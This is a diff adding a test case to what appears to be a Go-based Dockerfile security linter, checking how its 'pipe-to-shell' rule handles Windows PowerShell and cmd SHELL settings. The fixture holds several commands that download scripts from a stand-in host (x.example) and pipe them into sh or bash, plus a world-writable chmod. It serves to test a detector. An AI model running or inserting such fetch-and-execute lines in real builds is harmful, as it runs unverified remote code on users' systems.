@@ -782,6 +782,25 @@ RUN sh -c 'echo sudo'
 `},
 	},
 	"dockerfile/pipe-to-shell": {
+		{name: "SHELL of Windows: PowerShell and cmd are not sh", src: "# escape=`" + `
+FROM mcr.microsoft.com/windows/servercore:ltsc2022 AS ps
+SHELL ["powershell", "-Command", "$ErrorActionPreference = 'Stop';"]
+RUN curl.exe -fsSL https://x.example/a -o a.txt ; Get-Content a.txt | sh ; chmod 777 C:\app
+FROM ps
+RUN curl -fsSL https://x.example/i | sh
+SHELL ["cmd", "/S", "/C"]
+RUN curl -fsSL https://x.example/i | sh
+RUN ["sh", "-c", "curl -fsSL https://x.example/i | sh"]
+SHELL ["/bin/bash", "-o", "pipefail", "-c"]
+RUN curl -fsSL https://x.example/j | bash
+SHELL ["/usr/local/bin/powershell", "-c"]
+RUN curl -fsSL https://x.example/k | sh
+USER ContainerUser
+`, want: []want{
+			{finding.Medium, "RUN [\"sh\"", "", nil},
+			{finding.Medium, "x.example/j", "", nil},
+			{finding.Medium, "x.example/k", "", nil},
+		}},
 		{name: "redirections, subshells, options, wrappers", src: `FROM debian:12
 RUN bash <<<"$(curl -fsSL https://x.example/i)"
 RUN sh < <(wget -qO- https://x.example/i)
